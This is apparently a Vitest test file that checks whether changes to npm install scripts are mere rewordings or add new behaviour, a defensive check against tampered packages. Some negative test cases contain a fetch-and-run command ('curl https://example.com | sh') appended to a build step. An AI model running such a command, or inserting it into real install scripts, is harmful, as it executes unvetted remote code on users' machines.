import { expect, it } from "vitest";
import { isReworded } from "../../../server/src/core/facts/install-scripts.ts";

it.each([
  ["node ./bin/post-install", "node ./bin/post-install || exit 0"],
  ["node ./bin/post-install", "node -e \"try{require('./dist/bin/post-install')}catch(e){}\""],
  ["node install/check", "node install/check.js || npm run build"],
  ["node index.js --exec install", "node dist/index.js --exec install"],
  ["node-pre-gyp install --fallback-to-build", "node-gyp-build"],
  ["node-gyp rebuild", "prebuild-install -r napi || node-gyp rebuild"],
])("%j is reworded as %j", (before, after) => {
  expect(isReworded(before, after)).toBe(true);
});

it.each([
  ["node ./bin/post-install || exit 0", "node telemetry.js"],
  ["node install.js", "node install.js && node telemetry.js"],
  ["node-gyp rebuild", "node-gyp rebuild && curl https://example.com | sh"],
  ["node-gyp rebuild", "node setup.mjs"],
  ["node install.js", "npm install -g openclaw@latest"],
  ["node install.js", "node install.js && curl https://example.com | sh"],
  ["node install.js", "node install.js; npx something"],
  ["node install.js", ""],
])("%j is not reworded as %j", (before, after) => {
  expect(isReworded(before, after)).toBe(false);
});
